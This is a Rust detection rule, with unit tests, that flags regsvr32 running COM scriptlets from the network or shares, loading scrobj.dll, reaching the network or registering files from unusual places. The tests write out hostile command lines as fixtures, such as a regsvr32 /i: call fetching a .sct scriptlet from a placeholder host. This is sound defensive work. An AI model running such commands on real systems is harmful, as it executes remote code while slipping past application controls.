//! # IPC-COM-013: regsvr32 runs a scriptlet or reaches the network
//!
//! ## What it detects
//! regsvr32, recognised by its version resource even if renamed: (a) with a scriptlet from a URL or share, or loading
//! `scrobj.dll`: high; (b) making a connection or resolving a name, (c) starting a child process, (d) registering a
//! file from a user-writable location, from another machine, or without a library's extension: medium; (e) started for
//! (d) by Office or a script host: high.
//!
//! ## Why it matters
//! regsvr32 runs the registration code of the given file: for a scriptlet, that is a script from the network executed
//! in a signed program.
//!
//! ## Telemetry
//! Sysmon 1, 3, 7, 22, Security 4688.
//!
//! ## False positives
//! Installers that register local controls: not reported. Certificate checks are not counted as network use.
//!
//! ## References
//! ATT&CK T1218.010, T1559.001; DET0224 (AN0628).

use backchannel_events::{
    Activity, ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source,
};

use crate::context::com_server;
use crate::text::{base_name, contains, contains_any, ends_with, find, starts_with};
use crate::vocabulary::places;
use crate::{Actor, Analytic, Context, Evidence, Family, predicates};

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-COM-013",
    title: "regsvr32 runs a scriptlet or reaches the network",
    family: Family::ComponentObjectModel,
    techniques: &["T1218.010", "T1559.001"],
    attack_analytics: &["AN0628"],
    severity: Severity::High,
    on: &[ActivityKind::ProcessStart, ActivityKind::ModuleLoad, ActivityKind::NetworkFlow, ActivityKind::Dns],
    telemetry: &[Source::Sysmon, Source::Security],
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    let subject = context.subject();
    if let Activity::ProcessStart = event.activity {
        return if is_regsvr32(subject) {
            started(context, subject)
        } else if is_regsvr32(context.parent()) {
            child(context, subject)
        } else {
            None
        };
    }
    if !is_regsvr32(subject) {
        return None;
    }
    match &event.activity {
        Activity::ModuleLoad(module) if base_name(module.path).eq_ignore_ascii_case("scrobj.dll") => Some(
            high(subject, "loaded the runtime of COM scriptlets: it runs a script as if it were a library")
                .client(subject),
        ),
        Activity::NetworkFlow(flow) if flow.outbound && !addresses_own(context, flow.remote.address) => {
            Some(medium(subject, &format!("connected to {}", flow.remote.address)).client(subject))
        }
        Activity::Dns(dns) if !dns.query.is_empty() && !places::is_of_windows(dns.query) && dns.query.contains('.') => {
            Some(medium(subject, &format!("asked for the address of {}", dns.query)).client(subject))
        }
        _ => None,
    }
}

fn started(context: &Context<'_>, subject: Actor<'_>) -> Option<Evidence> {
    let line = subject.command_line;
    let parent = context.parent();
    let install = find(line, "/i:").or_else(|| find(line, "-i:")).and_then(|at| line.get(at + 3..)).unwrap_or("");
    let install = install.trim_start_matches('"');
    let remote = starts_with(install, "http") || starts_with(install, "ftp") || starts_with(install, r"\\");
    if remote || (contains(line, "scrobj") && !install.is_empty()) {
        let text = format!("was told to run a scriptlet ({})", word(install));
        let mut evidence = high(subject, &text).client(parent).server(subject);
        if let Some(share) = install.strip_prefix(r"\\") {
            evidence = evidence.reasons(Reasons::LATERAL_MOVEMENT).involving(share.split('\\').next().unwrap_or(""));
        }
        return Some(evidence);
    }
    let target = com_server::path_of(target(line)?);
    let place = com_server::odd_place(&target)
        .or_else(|| (target.contains('\\') && !is_library(&target)).then_some("in a file that is no library"))?;
    // A program installed for one user registers its own components.
    if com_server::registers_own_product(context, &target) {
        return None;
    }
    let text = format!("registered {target}, which lies {place}");
    let scripted = predicates::is_script_host(parent) || predicates::is_office(parent);
    let mut evidence = if scripted { high(subject, &text) } else { medium(subject, &text) };
    if let Some(share) = target.strip_prefix(r"\\") {
        evidence = evidence.reasons(Reasons::LATERAL_MOVEMENT).involving(share.split('\\').next().unwrap_or(""));
    }
    Some(evidence.client(parent).server(subject))
}

fn child(context: &Context<'_>, child: Actor<'_>) -> Option<Evidence> {
    if is_regsvr32(child) || child.is(&["werfault.exe", "conhost.exe"]) {
        return None;
    }
    let host = predicates::is_script_host(child) || predicates::is_lolbin(child) || predicates::is_untrusted(child);
    let parent = context.parent();
    let text = format!("started {}", child.name());
    let line = parent.command_line;
    let fetched = host && (contains(line, "scrobj") || contains_any(line, &["/i:http", "-i:http"]));
    let evidence = if fetched { high(parent, &text) } else { medium(parent, &text) };
    Some(evidence.client(parent).server(child))
}

fn high(regsvr32: Actor<'_>, what: &str) -> Evidence {
    Evidence::new(Severity::High, Confidence::High, format!("{} {what}.", regsvr32.name()))
        .reasons(Reasons::UNKNOWN_BINARY)
        .indicators(Indicators::UNEXPECTED_USE)
        .channel(Mechanism::Com, "scriptlet")
}

fn medium(regsvr32: Actor<'_>, what: &str) -> Evidence {
    let text = format!("{} {what}: registering a COM server has no need of that.", regsvr32.name());
    Evidence::new(Severity::Medium, Confidence::Medium, text)
        .reasons(Reasons::NONE.and_if(predicates::is_unknown_binary(regsvr32), Reasons::UNKNOWN_BINARY))
        .indicators(Indicators::UNEXPECTED_USE)
        .channel(Mechanism::Com, "regsvr32")
}

fn is_regsvr32(actor: Actor<'_>) -> bool {
    actor.is(&["regsvr32.exe"])
}

fn addresses_own(context: &Context<'_>, address: &str) -> bool {
    context.host.addresses.is_own(address)
}

/// The file to register: the last argument that is not an option.
fn target(line: &str) -> Option<&str> {
    let line = line.trim_end();
    if let Some(inner) = line.strip_suffix('"') {
        return inner.rsplit('"').next().filter(|word| !ends_with(word, "regsvr32.exe"));
    }
    let word = line.rsplit(' ').next()?;
    (!word.starts_with(['/', '-']) && !contains(word, "regsvr32")).then_some(word)
}

fn is_library(path: &str) -> bool {
    [".dll", ".ocx", ".cpl", ".ax", ".ppl", ".tlb"].iter().any(|ending| ends_with(path, ending))
        || !base_name(path).contains('.')
}

fn word(text: &str) -> &str {
    text.split([' ', '"']).next().unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    const REGSVR32: &str = r"C:\Windows\System32\regsvr32.exe";

    #[test]
    fn a_scriptlet_from_the_network_fires_whatever_the_file_is_called() {
        let line = "r.exe /s /u /i:https://a.example/x.sct scrobj.dll";
        let events = [start(0, r"C:\Users\a\r.exe", line).original_name("REGSVR32.EXE")];
        check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn a_child_of_a_scriptlet_fires() {
        let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe")
            .by(REGSVR32, "regsvr32.exe /u /s /i:http://a.example/x scrobj.dll")];
        check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn the_scriptlet_runtime_in_it_fires() {
        check(
            &ANALYTIC,
            &[loaded(0, r"C:\Windows\System32\scrobj.dll").of(REGSVR32, 4)],
            Some((Severity::High, Confidence::High)),
        );
    }

    #[test]
    fn a_library_of_the_user_s_started_by_a_script_is_high() {
        let events = [start(0, REGSVR32, r"regsvr32.exe /s C:\Users\a\AppData\Local\Temp\x.dll")
            .by(r"C:\Windows\System32\wscript.exe", "wscript.exe a.js")];
        check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn installed_libraries_and_active_setup_are_quiet() {
        let events = [
            start(0, REGSVR32, r#"regsvr32.exe /s "C:\Program Files\Vendor\control.ocx""#)
                .by(r"C:\Windows\System32\msiexec.exe", "msiexec.exe /V"),
            start(1, REGSVR32, r"regsvr32.exe /s /n /i:U shell32.dll").by(r"C:\Windows\explorer.exe", "explorer.exe"),
            start(2, r"C:\Windows\SysWOW64\regsvr32.exe", "regsvr32.exe")
                .by(REGSVR32, r"regsvr32.exe C:\Windows\x.dll"),
        ];
        check(&ANALYTIC, &events, None);
    }

    #[test]
    fn certificate_checks_are_quiet() {
        let dns = backchannel_events::DnsQuery { query: "ocsp.digicert.com", answers: "" };
        check(&ANALYTIC, &[event(0, Activity::Dns(dns)).of(REGSVR32, 4)], None);
    }
}
